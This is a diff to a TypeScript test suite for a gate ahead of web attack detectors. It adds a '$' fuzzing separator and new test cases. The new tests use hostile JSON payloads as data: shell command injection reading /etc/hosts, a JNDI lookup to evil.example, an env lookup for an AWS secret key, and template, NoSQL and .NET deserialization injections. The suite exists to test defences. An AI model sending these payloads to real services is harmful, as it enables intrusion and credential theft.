@@ -271,9 +271,11 @@ function longCases(): Case[] {
  * where a miss would hide.
  */
 function fuzzCases(vocabulary: readonly string[], attacks: readonly string[], runs: number, seed: number): Case[] {
-  const inAlphabet = (s: string) => /^[A-Za-z0-9 _.,/:@=+~();&?#!^|{}[\]*"'\u0080-\uffff-]*$/.test(s);
+  // (with $, which a JSON body lets through: a request with one anywhere else fires by itself)
+  const inAlphabet = (s: string) => /^[A-Za-z0-9 _.,/:@=+~();&?#!^|{}[\]*"'$\u0080-\uffff-]*$/.test(s);
   const glue = [
     ' ',
+    '$',
     '  ',
     '+',
     ',',
@@ -452,6 +454,48 @@ describe('the gate in front of the attack detectors, through a real HAProxy', ()
     assert.ok(attacks.length > 1000, `the detectors should find most corpus attacks (found ${attacks.length})`);
     const ordinary = outcomes.filter((o) => o.name.startsWith('benign.jsonl') && (o.name.includes(' in query:') || o.name.includes(' in json:')));
     console.log(`# corpora: ${cases.length} requests; ordinary values in a query string or JSON body skipping the detectors: ${percent(share(ordinary))}`);
+  });
+
+  test('a $ in a JSON body: what it starts for the detectors fires the gate, and a price or a "$schema" key does not', async () => {
+    const json = (body: string) => raw('POST /api/items', ['Content-Type: application/json'], body);
+    const attacks = [
+      '{"q":"$(id)"}',
+      '{"q":"x;$IFS cat$IFS/etc/hosts"}',
+      '{"q":"${jndi:ldap://evil.example/a}"}',
+      '{"q":"${env:AWS_SECRET_ACCESS_KEY}"}',
+      '{"q":"${7*7}"}',
+      '{"q":"$7*7}"}',
+      '{"user":{"$ne":null},"password":{"$ne":null}}',
+      '{"name":{"$regex":"^adm"}}',
+      '{"$where":"sleep(5000)"}',
+      '{"a.$gt":""}',
+      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
+      '{"c":"1;$\\"id\\""}',
+      '{"c":"x|$\'id\'"}',
+    ];
+    const ordinary = [
+      '{"price":"$19.99","note":"save $5 today"}',
+      '{"$schema":"https://json-schema.org/draft/2020-12/schema","title":"Order"}',
+      '{"hash":"$2b$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy"}',
+    ];
+    const outcomes = await run(
+      proxy,
+      [...attacks, ...ordinary].map((b) => ({ name: b, bytes: json(b) })),
+    );
+    assertNothingHidden(outcomes, 'a $ in a JSON body');
+    for (const o of outcomes.slice(0, attacks.length)) assert.equal(o.answer, 'gate', `${o.name}: the gate lets it through (detectors: ${o.finding})`);
+    for (const o of outcomes.slice(attacks.length)) assert.deepEqual([o.answer, o.finding], ['clean', '-'], `${o.name}: an ordinary $ in a JSON body`);
+  });
+
+  test('what the fuzzer found once stays found', async () => {
+    // seed 101: the SQL tokenizer reads 0X1F and sys.getent as two tokens (a hex number, then a system table)
+    const found = [raw('GET /', ['Cookie: q=.5bAGGage1E0/PRogReSS||animAtionsTARt*0X1Fsys.GEtenT'])];
+    const outcomes = await run(
+      proxy,
+      found.map((bytes, i) => ({ name: `found ${i}`, bytes })),
+    );
+    assertNothingHidden(outcomes, 'found by the fuzzer');
+    for (const o of outcomes) assert.equal(o.answer, 'gate', `${o.name}: the gate lets it through (detectors: ${o.finding})`);
   });
 
   test("a fuzzer mixing the engine's vocabulary, separators and encodings: whatever the detectors find, the gate fires", async () => {
